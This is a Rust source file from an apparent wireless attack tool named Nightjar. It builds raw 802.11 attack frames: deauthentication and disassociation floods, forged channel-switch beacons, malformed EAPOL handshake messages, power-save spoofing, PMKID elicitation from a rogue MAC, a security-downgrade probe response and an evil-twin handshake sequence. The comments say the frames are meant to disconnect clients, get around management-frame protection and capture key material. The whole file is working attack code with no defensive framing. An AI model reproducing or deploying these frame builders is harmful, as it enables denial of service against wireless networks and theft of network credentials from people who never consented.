/* This Source Code Form is subject to the terms of the Mozilla Public
 * License, v. 2.0. If a copy of the MPL was not distributed with this
 * file, You can obtain one at https://mozilla.org/MPL/2.0/.
 *
 * (c) 2024 The Nightjar Authors.
 */

//! The thirteen raw attack frame constructions (§4.7). Every builder
//! returns one or more `BuiltFrame`s, each a complete radiotap-prefixed
//! 802.11 frame plus the jittered delay to wait before sending the next
//! one in sequence. The attack orchestrator (`orchestrator.rs`) is the
//! only caller that actually sleeps and sends.

use nightjar_crypto::Xorshift64;
use nightjar_util::Buffer;

use crate::dot11::{self, frame_control, random_ap_reason, random_sta_reason, write_header, SeqSource, SequenceCounters, SUBTYPE_ACTION, SUBTYPE_ASSOC_REQ, SUBTYPE_AUTH, SUBTYPE_BEACON, SUBTYPE_DEAUTH, SUBTYPE_DISASSOC, SUBTYPE_NULL_DATA, SUBTYPE_PROBE_REQ, SUBTYPE_PROBE_RESP, SUBTYPE_REASSOC_REQ, TYPE_DATA, TYPE_MANAGEMENT};
use crate::eapol::write_eapol_key_m1;
use crate::ie::{write_csa_ie, write_rsn_ie, write_ssid_ie};
use crate::radiotap::write_radiotap_header;

pub const FRAME_CAPACITY: usize = 512;
pub type Frame = Buffer<FRAME_CAPACITY>;

const BROADCAST: [u8; 6] = [0xff; 6];
const CAPABILITY_ESS_PRIVACY: u16 = 0x0011;
const BEACON_INTERVAL_TU: u16 = 100;
const ASSOC_ID_ROGUE: u16 = 0xC001;
const EAPOL_SNAP_HEADER: [u8; 8] = [0xAA, 0xAA, 0x03, 0x00, 0x00, 0x00, 0x88, 0x8E];

const CSA_INVALID_CHANNEL: u8 = 14;
const CSA_MODE_NO_TX: u8 = 1;

/// A single injected frame plus how long to wait, jittered, before sending
/// the next frame in the same attack. `None` on the final frame.
pub struct BuiltFrame {
    pub bytes: Frame,
    pub jitter_after_ms: Option<(f64, f64)>,
}

impl BuiltFrame {
    fn last(bytes: Frame) -> Self {
        Self { bytes, jitter_after_ms: None }
    }
    fn then(bytes: Frame, min_ms: f64, max_ms: f64) -> Self {
        Self { bytes, jitter_after_ms: Some((min_ms, max_ms)) }
    }
}

fn new_frame() -> Frame {
    let mut f = Frame::new();
    write_radiotap_header(&mut f);
    f
}

fn mgmt_fc(subtype: u8) -> u16 {
    frame_control(TYPE_MANAGEMENT, subtype, false, false, false, false)
}

/// `anon_reassoc`: reassociation request to `ap`, source spoofed as
/// broadcast. Addressing the AP this way makes it emit a signed deauth to
/// every client it believes it must notify, sidestepping management-frame
/// protection on the triggering frame itself.
pub fn anon_reassoc(ap: [u8; 6], ssid: &str, seq: &mut SequenceCounters, _rng: &Xorshift64) -> Vec<BuiltFrame> {
    let mut f = new_frame();
    let fc = mgmt_fc(SUBTYPE_REASSOC_REQ);
    write_header(&mut f, fc, 0, &ap, &BROADCAST, &ap, seq.next(SeqSource::Ap));
    f.append_u16_le(CAPABILITY_ESS_PRIVACY).expect("frame fits");
    f.append_u16_le(0x0001).expect("frame fits"); // listen interval
    f.append_bytes_fixed(&ap).expect("frame fits"); // current AP address
    write_ssid_ie(&mut f, ssid);
    vec![BuiltFrame::last(f)]
}

/// `eapol_m1_malformed`: a data frame carrying an EAPOL-Key M1 with a
/// deliberately corrupted replay counter and garbage MIC, meant to disrupt
/// the client's 4-way handshake state machine.
pub fn eapol_m1_malformed(ap: [u8; 6], sta: [u8; 6], seq: &mut SequenceCounters, rng: &Xorshift64) -> Vec<BuiltFrame> {
    let mut f = new_frame();
    let fc = frame_control(TYPE_DATA, 0, false, true, false, false);
    write_header(&mut f, fc, 0, &sta, &ap, &ap, seq.next(SeqSource::Ap));
    f.append_bytes_fixed(&EAPOL_SNAP_HEADER).expect("frame fits");
    let mut nonce = [0_u8; 32];
    for b in nonce.iter_mut() {
        *b = rng.next_u32() as u8;
    }
    write_eapol_key_m1(&mut f, u64::MAX, &nonce, &[0xFF; 16]);
    vec![BuiltFrame::last(f)]
}

/// `power_save_spoof`: two Null Data frames spoofed STA→AP, PM bit 1 then
/// (after a short jitter) PM bit 0, forcing the AP to buffer and then flush
/// traffic — often triggering a reassociation.
pub fn power_save_spoof(ap: [u8; 6], sta: [u8; 6], seq: &mut SequenceCounters) -> Vec<BuiltFrame> {
    let mut sleep_frame = new_frame();
    let fc_sleep = frame_control(TYPE_DATA, SUBTYPE_NULL_DATA, true, false, true, false);
    write_header(&mut sleep_frame, fc_sleep, 0, &ap, &sta, &ap, seq.next(SeqSource::Sta));

    let mut wake_frame = new_frame();
    let fc_wake = frame_control(TYPE_DATA, SUBTYPE_NULL_DATA, true, false, false, false);
    write_header(&mut wake_frame, fc_wake, 0, &ap, &sta, &ap, seq.next(SeqSource::Sta));

    vec![BuiltFrame::then(sleep_frame, 7.0, 13.0), BuiltFrame::last(wake_frame)]
}

/// `disassoc_bidi`: one disassociation each direction, independent random
/// reason codes.
pub fn disassoc_bidi(ap: [u8; 6], sta: [u8; 6], seq: &mut SequenceCounters, rng: &Xorshift64) -> Vec<BuiltFrame> {
    let mut ap_to_sta = new_frame();
    write_header(&mut ap_to_sta, mgmt_fc(SUBTYPE_DISASSOC), 0, &sta, &ap, &ap, seq.next(SeqSource::Ap));
    ap_to_sta.append_u16_le(random_ap_reason(rng)).expect("frame fits");

    let mut sta_to_ap = new_frame();
    write_header(&mut sta_to_ap, mgmt_fc(SUBTYPE_DISASSOC), 0, &ap, &sta, &ap, seq.next(SeqSource::Sta));
    sta_to_ap.append_u16_le(random_sta_reason(rng)).expect("frame fits");

    vec![BuiltFrame::then(ap_to_sta, 7.0, 13.0), BuiltFrame::last(sta_to_ap)]
}

/// `deauth_broadcast`: single deauth, DA = broadcast, SA = BSSID = AP.
pub fn deauth_broadcast(ap: [u8; 6], seq: &mut SequenceCounters, rng: &Xorshift64) -> Vec<BuiltFrame> {
    let mut f = new_frame();
    write_header(&mut f, mgmt_fc(SUBTYPE_DEAUTH), 0, &BROADCAST, &ap, &ap, seq.next(SeqSource::Ap));
    f.append_u16_le(random_ap_reason(rng)).expect("frame fits");
    vec![BuiltFrame::last(f)]
}

/// `deauth_bidi`: directed deauth pair, AP→STA then STA→AP.
pub fn deauth_bidi(ap: [u8; 6], sta: [u8; 6], seq: &mut SequenceCounters, rng: &Xorshift64) -> Vec<BuiltFrame> {
    let mut ap_to_sta = new_frame();
    write_header(&mut ap_to_sta, mgmt_fc(SUBTYPE_DEAUTH), 0, &sta, &ap, &ap, seq.next(SeqSource::Ap));
    ap_to_sta.append_u16_le(random_ap_reason(rng)).expect("frame fits");

    let mut sta_to_ap = new_frame();
    write_header(&mut sta_to_ap, mgmt_fc(SUBTYPE_DEAUTH), 0, &ap, &sta, &ap, seq.next(SeqSource::Sta));
    sta_to_ap.append_u16_le(random_sta_reason(rng)).expect("frame fits");

    vec![BuiltFrame::then(ap_to_sta, 7.0, 13.0), BuiltFrame::last(sta_to_ap)]
}

fn write_beacon_body(f: &mut Frame, ssid: &str, countdown: u8) {
    f.append_u64_be(0).expect("frame fits"); // timestamp, filled by firmware on real hardware
    f.append_u16_le(BEACON_INTERVAL_TU).expect("frame fits");
    f.append_u16_le(CAPABILITY_ESS_PRIVACY).expect("frame fits");
    write_ssid_ie(f, ssid);
    write_csa_ie(f, CSA_MODE_NO_TX, CSA_INVALID_CHANNEL, countdown);
}

/// `csa_beacon`: six beacon clones of the target, countdown 5→0, each
/// pointing at channel 14 — always invalid in the 2.4 GHz US regulatory
/// domain, forcing an immediate disconnect when a client obeys it.
pub fn csa_beacon(ap: [u8; 6], ssid: &str, seq: &mut SequenceCounters) -> Vec<BuiltFrame> {
    (0..6)
        .rev()
        .map(|countdown| {
            let mut f = new_frame();
            write_header(&mut f, mgmt_fc(SUBTYPE_BEACON), 0, &BROADCAST, &ap, &ap, seq.next(SeqSource::Ap));
            write_beacon_body(&mut f, ssid, countdown);
            if countdown == 0 {
                BuiltFrame::last(f)
            } else {
                BuiltFrame::then(f, 70.0, 130.0)
            }
        })
        .collect()
}

/// `csa_action`: a single Spectrum Management / Channel Switch Announcement
/// action frame to broadcast, count 3.
pub fn csa_action(ap: [u8; 6], seq: &mut SequenceCounters) -> Vec<BuiltFrame> {
    let mut f = new_frame();
    write_header(&mut f, mgmt_fc(SUBTYPE_ACTION), 0, &BROADCAST, &ap, &ap, seq.next(SeqSource::Ap));
    f.append_u8(0).expect("frame fits"); // category: Spectrum Management
    f.append_u8(4).expect("frame fits"); // action: Channel Switch Announcement
    write_csa_ie(&mut f, CSA_MODE_NO_TX, CSA_INVALID_CHANNEL, 3);
    vec![BuiltFrame::last(f)]
}

fn build_probe_request(ssid: &str, seq: &mut SequenceCounters, rng: &Xorshift64) -> Frame {
    let mut f = new_frame();
    let src = rng.random_locally_administered_mac();
    write_header(&mut f, mgmt_fc(SUBTYPE_PROBE_REQ), 0, &BROADCAST, &src, &BROADCAST, seq.next(SeqSource::Probe));
    write_ssid_ie(&mut f, ssid);
    f
}

/// `probe_undirected`: wildcard probe request from a random locally
/// administered source MAC.
pub fn probe_undirected(seq: &mut SequenceCounters, rng: &Xorshift64) -> Vec<BuiltFrame> {
    vec![BuiltFrame::last(build_probe_request("", seq, rng))]
}

/// `probe_directed`: same shape, but names `ssid` to smoke out a hidden
/// network.
pub fn probe_directed(ssid: &str, seq: &mut SequenceCounters, rng: &Xorshift64) -> Vec<BuiltFrame> {
    vec![BuiltFrame::last(build_probe_request(ssid, seq, rng))]
}

/// `auth_assoc_pmkid`: open-system Authentication then Association Request
/// with a full RSN IE, from a random rogue MAC — elicits an M1 carrying the
/// AP's PMKID.
pub fn auth_assoc_pmkid(ap: [u8; 6], ssid: &str, seq: &mut SequenceCounters, rng: &Xorshift64) -> Vec<BuiltFrame> {
    let rogue = rng.random_locally_administered_mac();

    let mut auth = new_frame();
    write_header(&mut auth, mgmt_fc(SUBTYPE_AUTH), 0, &ap, &rogue, &ap, seq.next(SeqSource::Ap));
    auth.append_u16_le(0).expect("frame fits"); // algorithm: open system
    auth.append_u16_le(1).expect("frame fits"); // transaction sequence
    auth.append_u16_le(0).expect("frame fits"); // status: success

    let mut assoc = new_frame();
    write_header(&mut assoc, mgmt_fc(SUBTYPE_ASSOC_REQ), 0, &ap, &rogue, &ap, seq.next(SeqSource::Ap));
    assoc.append_u16_le(CAPABILITY_ESS_PRIVACY).expect("frame fits");
    assoc.append_u16_le(0x0001).expect("frame fits"); // listen interval
    write_ssid_ie(&mut assoc, ssid);
    write_rsn_ie(&mut assoc, true);

    vec![BuiltFrame::then(auth, 5.0, 10.0), BuiltFrame::last(assoc)]
}

fn build_spoofed_probe_response(ap: [u8; 6], dest: [u8; 6], ssid: &str, mfpc: bool, seq: &mut SequenceCounters) -> Frame {
    let mut f = new_frame();
    write_header(&mut f, mgmt_fc(SUBTYPE_PROBE_RESP), 0, &dest, &ap, &ap, seq.next(SeqSource::Ap));
    f.append_u64_be(0).expect("frame fits");
    f.append_u16_le(BEACON_INTERVAL_TU).expect("frame fits");
    f.append_u16_le(CAPABILITY_ESS_PRIVACY).expect("frame fits");
    write_ssid_ie(&mut f, ssid);
    write_rsn_ie(&mut f, mfpc);
    f
}

/// `rsn_downgrade`: spoofed Probe Response impersonating `ap` but
/// advertising a WPA2-PSK-only RSN IE with no MFP, coaxing a transition-mode
/// client into attempting plain WPA2.
pub fn rsn_downgrade(ap: [u8; 6], sta: [u8; 6], ssid: &str, seq: &mut SequenceCounters) -> Vec<BuiltFrame> {
    vec![BuiltFrame::last(build_spoofed_probe_response(ap, sta, ssid, false, seq))]
}

/// `rogue_m2`: the four-frame Evil-Twin sequence — Probe Response, Auth
/// Response, Assoc Response, EAPOL M1 — each separated by 3.5-13 ms jitter.
pub fn rogue_m2(ap: [u8; 6], sta: [u8; 6], ssid: &str, seq: &mut SequenceCounters, rng: &Xorshift64) -> Vec<BuiltFrame> {
    let probe_resp = build_spoofed_probe_response(ap, sta, ssid, true, seq);

    let mut auth_resp = new_frame();
    write_header(&mut auth_resp, mgmt_fc(SUBTYPE_AUTH), 0, &sta, &ap, &ap, seq.next(SeqSource::Ap));
    auth_resp.append_u16_le(0).expect("frame fits"); // algorithm: open system
    auth_resp.append_u16_le(2).expect("frame fits"); // transaction sequence
    auth_resp.append_u16_le(0).expect("frame fits"); // status: success

    let mut assoc_resp = new_frame();
    write_header(&mut assoc_resp, mgmt_fc(dot11::SUBTYPE_ASSOC_RESP), 0, &sta, &ap, &ap, seq.next(SeqSource::Ap));
    assoc_resp.append_u16_le(CAPABILITY_ESS_PRIVACY).expect("frame fits");
    assoc_resp.append_u16_le(0).expect("frame fits"); // status: success
    assoc_resp.append_u16_le(ASSOC_ID_ROGUE).expect("frame fits");

    let mut eapol = new_frame();
    let fc = frame_control(TYPE_DATA, 0, false, true, false, false);
    write_header(&mut eapol, fc, 0, &sta, &ap, &ap, seq.next(SeqSource::Ap));
    eapol.append_bytes_fixed(&EAPOL_SNAP_HEADER).expect("frame fits");
    let mut anonce = [0_u8; 32];
    for b in anonce.iter_mut() {
        *b = rng.next_u32() as u8;
    }
    write_eapol_key_m1(&mut eapol, 1, &anonce, &[0_u8; 16]);

    vec![
        BuiltFrame::then(probe_resp, 3.5, 13.0),
        BuiltFrame::then(auth_resp, 3.5, 13.0),
        BuiltFrame::then(assoc_resp, 3.5, 13.0),
        BuiltFrame::last(eapol),
    ]
}
